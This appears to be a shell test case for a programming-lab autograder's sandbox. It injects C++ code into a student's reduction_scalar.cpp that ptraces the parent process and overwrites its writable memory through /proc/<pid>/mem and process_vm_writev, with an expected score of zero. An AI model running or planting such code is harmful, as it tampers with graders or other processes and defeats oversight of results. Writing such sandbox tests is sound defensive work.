#!/bin/sh
# Attaches to its parent as a debugger, and reads and writes its memory.
# from: starters
# lab: lab1
# expect: lab1 0

{
    cat << 'CPP'
#include <cstdint>
#include <fstream>
#include <sstream>
#include <string>
#include <sys/ptrace.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <unistd.h>
static void attack() {
    const pid_t parent = ::getppid();
    ::ptrace(PTRACE_SEIZE, parent, nullptr, nullptr);
    ::ptrace(PTRACE_INTERRUPT, parent, nullptr, nullptr);
    ::waitpid(parent, nullptr, WNOHANG);
    std::ifstream maps("/proc/" + std::to_string(parent) + "/maps");
    std::fstream memory("/proc/" + std::to_string(parent) + "/mem", std::ios::in | std::ios::out | std::ios::binary);
    for (std::string line; std::getline(maps, line);) {
        if (line.find("rw-p") == std::string::npos)
            continue;
        std::uint64_t begin = 0;
        std::istringstream(line) >> std::hex >> begin;
        char bytes[4096] = {};
        iovec local{bytes, sizeof bytes};
        iovec remote{reinterpret_cast<void*>(begin), sizeof bytes};
        if (::process_vm_readv(parent, &local, 1, &remote, 1, 0) > 0)
            ::process_vm_writev(parent, &local, 1, &remote, 1, 0);
        memory.seekp(static_cast<std::streamoff>(begin));
        memory.write("hostile", 7);
    }
}

CPP
    sed 's/^\(std::size_t\|Reduction\) .*) {$/&\n    attack();/' labs/lab1/reduction_scalar.cpp
} > hostile.tmp
mv hostile.tmp labs/lab1/reduction_scalar.cpp
